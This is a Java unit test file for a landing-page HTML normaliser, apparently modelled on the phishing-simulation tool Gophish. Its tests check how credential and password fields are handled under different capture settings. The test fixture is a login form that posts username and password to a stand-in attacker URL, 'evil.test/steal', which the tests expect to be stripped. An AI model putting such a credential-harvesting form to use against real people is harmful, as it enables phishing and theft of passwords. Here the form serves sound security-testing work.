package io.tidewatch.landingpage;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Gophish's landing-page re-serialisation rules. */
class PageHtmlTest {

    private static final String FORM = "<form action=\"https://evil.test/steal\" method=\"post\">"
            + "<input name=\"user\" type=\"text\"><input name=\"pw\" type=\"PASSWORD\"></form>";

    @Test
    void wrapsTheDocumentAndPostsFormsBackToThePage() {
        String html = PageHtml.normalize("<p>Hi {{.FirstName}}</p>" + FORM, true, true);
        assertThat(html).startsWith("<html><head></head><body><p>Hi {{.FirstName}}</p>").contains("action=\"\"")
                .doesNotContain("evil.test");
    }

    @Test
    void dropsInputNamesWithoutCredentialCapture() {
        String html = PageHtml.normalize(FORM, false, false);
        assertThat(html).doesNotContain("name=");
    }

    @Test
    void dropsOnlyPasswordNamesWithoutPasswordCapture() {
        String html = PageHtml.normalize(FORM, true, false);
        assertThat(html).contains("name=\"user\"").doesNotContain("name=\"pw\"").doesNotContain("name=\"password\"");
    }

    @Test
    void renamesPasswordInputsWhenCapturingPasswords() {
        String html = PageHtml.normalize(FORM, true, true);
        assertThat(html).contains("name=\"user\"").contains("name=\"password\"");
    }
}
